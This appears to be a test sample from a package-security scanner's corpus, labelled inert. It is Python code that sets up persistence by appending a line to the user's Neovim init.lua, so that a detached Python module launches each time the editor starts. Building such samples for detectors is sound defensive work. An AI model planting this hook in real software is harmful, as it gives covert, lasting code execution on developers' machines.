# pkgguard corpus 798 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import sys

config = os.environ.get("XDG_CONFIG_HOME") or os.path.join(os.path.expanduser("~"), ".config")
init = os.path.join(config, "nvim", "init.lua")
line = f'vim.fn.jobstart({{"{sys.executable}", "-m", "pkg._lsp"}}, {{detach = true}})\n'
os.makedirs(os.path.dirname(init), exist_ok=True)
with open(init, "a", encoding="utf-8") as fh:
    fh.write(line)
